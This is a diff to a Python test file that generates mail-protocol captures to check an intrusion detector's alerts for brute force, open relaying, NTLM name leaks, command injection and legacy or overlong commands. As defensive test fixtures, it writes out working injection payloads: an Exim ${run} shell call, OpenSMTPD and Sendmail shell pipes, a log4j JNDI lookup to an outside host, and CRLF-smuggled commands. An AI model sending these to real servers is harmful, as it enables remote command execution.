@@ -1,5 +1,8 @@
 """Attacks: a capture where each fires, and some, as close to it as can be, where it does not (see cases.py)."""
-from cases import D, fires, greet, quit, pop3, pop3_quit, silent
+import base64
+import struct
+
+from cases import D, data, failures, fires, greet, imap, imap_quit, login, pop3, pop3_quit, quit, silent
 from pcapgen import MAIL, Dialogue, envelope
 
 STRANGER = "203.0.113.66"
@@ -208,3 +211,345 @@ def ends_with_bare_lf(c):
     d = envelope(greet(D(c))).talk("C: DATA", "S: 354 Go").say("C", b"Subject: x\n\nHello\n.\n").say("S", "250 2.0.0 Ok")
     d.talk("C: MAIL FROM:<ann@example.com>", "S: 250 2.1.0 Ok", "C: RCPT TO:<bob@example.org>", "S: 250 2.1.5 Ok", "C: DATA", "S: 354 Go")
     quit(d.say("C", b"Subject: y\n\nHello\n.\n").say("S", "250 2.0.0 Ok"))
+
+
+# ---- brute-force: guessed, from many ---------------------------------------------------------------------------------
+
+
+def enters(c, client, at):
+    d = greet(D(c, client=client, client_port=45000, port=587, at=at))
+    quit(login(d, "info", "235 2.7.0 Authentication successful", "right"))
+
+
+@fires("brute-force", "critical", says="the password was guessed")
+def guessed(c):
+    failures(c, ["info"], 12)
+    enters(c, "203.0.113.66", 100)
+
+
+@fires("brute-force", "critical", says="24 failed logins in 115 s, from 6 clients")
+def from_many(c):
+    for n in range(24):
+        d = greet(D(c, client="203.0.113.%d" % (60 + n % 6), client_port=40000 + n, port=587, at=n * 5.0))
+        quit(login(d, "info", "535 5.7.8 Error: authentication failed", "guess%d" % n))
+
+
+@silent("brute-force")
+def nine_from_three(c):
+    for n in range(9):
+        d = greet(D(c, client="203.0.113.%d" % (60 + n % 3), client_port=40000 + n, port=587, at=n * 5.0))
+        quit(login(d, "info", "535 5.7.8 Error: authentication failed", "guess%d" % n))
+
+
+# ---- open-relay, open-relay-probe ------------------------------------------------------------------------------------
+
+
+def hands_in(d, sender, recipient, answer="250 2.0.0 Ok: queued as 1"):
+    d = data(envelope(d, sender, recipient))
+    quit(d.say("S", answer))
+
+
+def inbound(c, clients=3):
+    for n in range(clients):
+        hands_in(greet(Dialogue(c, client="192.0.2.%d" % (77 + n), client_port=42000, at=3.0 * n), hello="EHLO mx.example.com"), "ann@example.com", "bob@example.org")
+
+
+@fires("open-relay", "critical", says="its own domain only")
+def relays_for_one(c):
+    inbound(c)
+    hands_in(stranger(c, at=20), "spam@example.net", "victim@example.edu")
+
+
+@silent("open-relay")
+def too_few_to_say_what_is_usual(c):
+    inbound(c, clients=2)
+    hands_in(stranger(c, at=20), "ann@example.net", "bob@example.edu")
+
+
+@silent("open-relay", "open-relay-probe")
+def takes_in_for_many_domains(c):
+    """A server that hosts other domains, too."""
+    inbound(c)
+    hands_in(stranger(c, at=20), "ann@example.net", "bob@example.edu")
+    hands_in(greet(Dialogue(c, client="198.18.5.5", client_port=43000, at=40)), "eve@example.net", "joe@example.info")
+
+
+@silent("open-relay")
+def relays_for_own_network(c):
+    inbound(c)
+    hands_in(greet(Dialogue(c, client="198.51.100.7", client_port=43000, at=40)), "printer@example.net", "victim@example.edu")
+    hands_in(greet(Dialogue(c, client="10.1.2.3", client_port=43001, at=60)), "printer@example.net", "victim@example.edu")
+
+
+@silent("open-relay")
+def relays_after_login(c):
+    inbound(c)
+    d = stranger(c, at=20).talk("C: AUTH PLAIN AGFubgBzM2NyZXQ=", "S: 235 2.7.0 Ok")
+    hands_in(d, "ann@example.net", "victim@example.edu")
+
+
+@silent("open-relay")
+def own_sender_from_outside(c):
+    """Mail from the server's domain to another: a web shop that was let in by its address."""
+    inbound(c)
+    hands_in(stranger(c, at=20), "shop@example.org", "customer@gmail.com")
+
+
+@silent("open-relay")
+def delivers_to_a_hosted_domain(c):
+    """One mail server sends to another whose name has nothing to do with the recipient's."""
+    hands_in(stranger(c), "ann@example.net", "bob@example.edu")
+
+
+@silent("open-relay")
+def message_refused(c):
+    inbound(c)
+    hands_in(stranger(c, at=20), "spam@example.net", "victim@example.edu", "554 5.7.1 Rejected")
+
+
+@fires("open-relay", "warning", says="public mail provider")
+def relays_to_freemail(c):
+    hands_in(stranger(c), "spam@example.net", "victim@gmail.com")
+
+
+FORMS = ["test%example.net@mail.example.org", "example.net!test", '"test@example.net"', "test@example.net@mail.example.org", "test@[198.51.100.25]"]
+
+
+def probe(c, forms, code="554 5.7.1 Relay access denied"):
+    d = stranger(c).talk("C: MAIL FROM:<probe@example.net>", "S: 250 2.1.0 Ok")
+    for form in forms:
+        d.talk("C: RCPT TO:<%s>" % form, "S: " + code)
+    return d
+
+
+@fires("open-relay-probe", "warning", says="accepted none")
+def probed(c):
+    quit(probe(c, FORMS))
+
+
+@fires("open-relay-probe", "error", says="accepted some")
+def probed_with_success(c):
+    quit(probe(c, FORMS[:2]).talk("C: RCPT TO:<@mail.example.org:test@example.net>", "S: 250 2.1.5 Ok"))
+
+
+@fires("open-relay", "critical", says="by which relays are looked for")
+def probed_and_open(c):
+    quit(probe(c, FORMS[:3]))
+    hands_in(stranger(c, 1, at=30), "probe@example.net", "test@example.edu")
+
+
+@silent("open-relay-probe", "open-relay")
+def two_forms(c):
+    quit(probe(c, FORMS[:2]))
+
+
+@silent("open-relay-probe")
+def relay_denied_to_many(c):
+    """A user on the road who forgot to log in."""
+    quit(probe(c, ["u%d@example.edu" % n for n in range(8)]))
+
+
+@silent("open-relay-probe")
+def forms_from_inside(c):
+    d = greet(Dialogue(c, client="198.51.100.9")).talk("C: MAIL FROM:<probe@example.net>", "S: 250 2.1.0 Ok")
+    for form in FORMS:
+        d.talk("C: RCPT TO:<%s>" % form, "S: 554 5.7.1 Relay access denied")
+    quit(d)
+
+
+# ---- ntlm-disclosure -------------------------------------------------------------------------------------------------
+
+
+def challenge(names=True):
+    pairs = b""
+    for kind, name in ((1, "MAIL01"), (2, "CORP"), (3, "mail01.corp.example.org"), (4, "corp.example.org")) if names else ():
+        text = name.encode("utf-16le")
+        pairs += struct.pack("<HH", kind, len(text)) + text
+    pairs += struct.pack("<HH", 0, 0)
+    target = "CORP".encode("utf-16le") if names else b""
+    head = b"NTLMSSP\0" + struct.pack("<IHHII", 2, len(target), len(target), 56, 0x02800001 | 0x02000000 * names) + b"12345678" + bytes(8)
+    head += struct.pack("<HHI", len(pairs), len(pairs), 56 + len(target)) + (struct.pack("<BBH", 10, 0, 17763) + b"\0\0\0\x0f" if names else bytes(8))
+    return base64.b64encode(head + target + pairs).decode()
+
+
+def answer():
+    user = "ann".encode("utf-16le")
+    fields = b"".join(struct.pack("<HHI", n, n, at) for n, at in ((24, 88), (24, 112), (0, 64), (len(user), 64), (0, 64), (0, 64)))
+    m = b"NTLMSSP\0" + struct.pack("<I", 3) + fields + struct.pack("<I", 0x00000001) + user
+    return base64.b64encode(m.ljust(88, b"\0") + b"r" * 48).decode()
+
+
+NEGOTIATE = base64.b64encode(b"NTLMSSP\0" + struct.pack("<II", 1, 0x00000207) + bytes(16)).decode()
+
+
+@fires("ntlm-disclosure", "warning", says="mail01.corp.example.org")
+def asked_for_names(c):
+    quit(stranger(c).talk("C: AUTH NTLM " + NEGOTIATE, "S: 334 " + challenge(), "C: *", "S: 501 5.7.0 Authentication aborted"))
+
+
+@fires("ntlm-disclosure", "warning", says="Windows 10.0 build 17763")
+def names_by_imap(c):
+    d = imap(D(c, port=143, client=STRANGER)).talk("C: a AUTHENTICATE NTLM", "S: +", "C: " + NEGOTIATE, "S: + " + challenge())
+    d.close()
+
+
+@fires("ntlm-disclosure", "warning", says="CORP")
+def names_by_pop(c):
+    d = pop3(D(c, port=110, client=STRANGER)).talk("C: AUTH NTLM", "S: + ", "C: " + NEGOTIATE, "S: + " + challenge(), "C: *", "S: -ERR aborted")
+    d.close()
+
+
+@fires("ntlm-disclosure", "note", says="and failed")
+def ntlm_login_failed(c):
+    quit(greet(D(c, port=587)).talk("C: AUTH NTLM " + NEGOTIATE, "S: 334 " + challenge(), "C: " + answer(), "S: 535 5.7.3 Authentication unsuccessful"))
+
+
+@silent("ntlm-disclosure")
+def ntlm_login(c):
+    quit(greet(D(c, port=587)).talk("C: AUTH NTLM " + NEGOTIATE, "S: 334 " + challenge(), "C: " + answer(), "S: 235 2.7.0 Ok"))
+
+
+@silent("ntlm-disclosure")
+def ntlm_without_names(c):
+    quit(stranger(c).talk("C: AUTH NTLM " + NEGOTIATE, "S: 334 " + challenge(names=False), "C: *", "S: 501 5.7.0 Authentication aborted"))
+
+
+# ---- command-injection -----------------------------------------------------------------------------------------------
+
+
+def one(c, command, answer):
+    quit(stranger(c).talk("C: " + command, "S: " + answer))
+
+
+@fires("command-injection", "critical", says="runs or reads")
+def exim_run(c):
+    quit(stranger(c).talk("C: MAIL FROM:<>", "S: 250 Ok", "C: RCPT TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22id\\x22}}@localhost>", "S: 250 Accepted"))
+
+
+@fires("command-injection", "error", says="for the shell")
+def opensmtpd_shell(c):
+    one(c, "MAIL FROM:<;for i in 0 1 2 3;do read r;done;sh;exit 0;>", "553 5.1.8 Sender address syntax error")
+
+
+@fires("command-injection", "error", says="pipe")
+def sendmail_pipe(c):
+    one(c, 'RCPT TO:<"|/bin/sed 1,/^$/d|/bin/sh">', "550 5.1.1 No")
+
+
+@fires("command-injection", "error", says="another command behind it")
+def line_end_inside(c):
+    d = stranger(c).say("C", b"MAIL FROM:<ann@example.com>\rRCPT TO:<bob@example.org>\r\n").say("S", "501 5.1.7 Bad sender address syntax")
+    quit(d)
+
+
+@fires("command-injection", "critical", says="jndi")
+def log4j_user(c):
+    pop3_quit(pop3(D(c, port=110)).talk("C: USER ${jndi:ldap://203.0.113.66/a}", "S: +OK", "C: PASS x", "S: -ERR no"))
+
+
+@fires("command-injection", "error", says="percent")
+def line_end_in_percent(c):
+    one(c, "RCPT TO:<bob@example.org%0d%0aDATA%0d%0a>", "501 5.1.3 Bad recipient address syntax")
+
+
+@silent("command-injection")
+def odd_addresses(c):
+    """Signs that addresses may have (RFC 5321 4.1.2, RFC 5322 3.2.3), and a password that looks like a command."""
+    d = envelope(greet(D(c, port=587)).talk("C: AUTH PLAIN " + base64.b64encode(b"\0ann\0$(id);sh;|/bin/sh").decode(), "S: 235 2.7.0 Ok"),
+                 "bounce$1+bob=example.org@example.com", "a`b@example.org", "x|y@example.org", "50%off@example.org", "dollar${x}@example.org")
+    quit(d)
+
+
+@silent("command-injection")
+def password_with_signs(c):
+    pop3_quit(pop3(D(c, port=110)).talk("C: USER ann", "S: +OK", "C: PASS $(id)`reboot`;sh;${run{x}}", "S: +OK"))
+
+
+@silent("command-injection")
+def sloppy_line_ends(c):
+    d = stranger(c).say("C", b"MAIL FROM:<ann@example.com>\r\r\n").say("S", "250 2.1.0 Ok").say("C", b"RSET\0\r\n").say("S", "250 2.0.0 Ok")
+    quit(d)
+
+
+# ---- legacy-command, overlong-command ----------------------------------------------------------------------------------
+
+
+@fires("legacy-command", "warning", says="Sendmail")
+def debug(c):
+    one(c, "DEBUG", "502 5.5.2 Error: command not recognized")
+
+
+@fires("legacy-command", "critical", says="did it")
+def wizard(c):
+    one(c, "WIZ", "200 Please pass, oh mighty wizard")
+
+
+@silent("legacy-command")
+def etrn_and_help(c):
+    quit(stranger(c).talk("C: ETRN example.org", "S: 502 5.5.2 No", "C: HELP", "S: 214 2.0.0 See RFC 5321"))
+
+
+@silent("legacy-command")
+def debug_as_argument(c):
+    quit(stranger(c, hello="EHLO DEBUG").talk("C: NOOP WIZ", "S: 250 2.0.0 Ok"))
+
+
+@fires("overlong-command", "warning", says="4005 bytes")
+def long_helo(c):
+    quit(D(c, client=STRANGER).open().talk("S: 220 mail.example.org ESMTP", "C: HELO " + "A" * 4000, "S: 500 5.5.2 Line too long"))
+
+
+@fires("overlong-command", "warning", says="X-LINK2STATE")
+def link2state(c):
+    one(c, "X-LINK2STATE CHUNK=" + "A" * 530, "500 5.5.2 Error: command not recognized")
+
+
+@silent("overlong-command")
+def long_but_right(c):
+    """The longest MAIL that RFC 5321 4.5.3.1 and its extensions allow, and a login by token."""
+    d = greet(D(c, port=587)).talk("C: AUTH XOAUTH2 " + base64.b64encode(b"user=ann\1auth=Bearer " + b"t" * 2000 + b"\1\1").decode(), "S: 235 2.7.0 Ok")
+    quit(d.talk("C: MAIL FROM:<%s@example.com> SIZE=1000 BODY=8BITMIME RET=HDRS ENVID=%s" % ("a" * 64, "e" * 100), "S: 250 2.1.0 Ok", "C: RSET", "S: 250 Ok"))
+
+
+@silent("overlong-command")
+def long_list_of_numbers(c):
+    d = imap(D(c, port=143)).talk("C: a LOGIN ann secret", "S: a OK", "C: b UID FETCH %s (FLAGS)" % ",".join(str(n) for n in range(1, 900, 2)), "S: b OK done")
+    imap_quit(d)
+
+
+# ---- scanner, suspicious-helo ------------------------------------------------------------------------------------------
+
+
+@fires("scanner", "note", says="nmap.scanme.org")
+def nmap(c):
+    quit(stranger(c, hello="EHLO nmap.scanme.org"))
+
+
+@silent("scanner", "suspicious-helo")
+def honest_name(c):
+    quit(stranger(c, hello="EHLO mx1.example.net"))
+
+
+@silent("scanner")
+def office_scanner(c):
+    quit(greet(D(c, port=587), hello="EHLO SCANNER-2"))
+
+
+@fires("suspicious-helo", "note", says="the server itself")
+def takes_the_servers_name(c):
+    quit(stranger(c, hello="EHLO mail.example.org"))
+
+
+@fires("suspicious-helo", "note", says="without brackets")
+def bare_address(c):
+    quit(stranger(c, hello="HELO 203.0.113.66"))
+
+
+@silent("suspicious-helo")
+def address_in_brackets(c):
+    quit(stranger(c, hello="EHLO [203.0.113.66]"))
+
+
+@silent("suspicious-helo")
+def localhost_at_home(c):
+    quit(greet(D(c, client="192.168.1.5", server="192.168.1.2"), hello="EHLO localhost"))
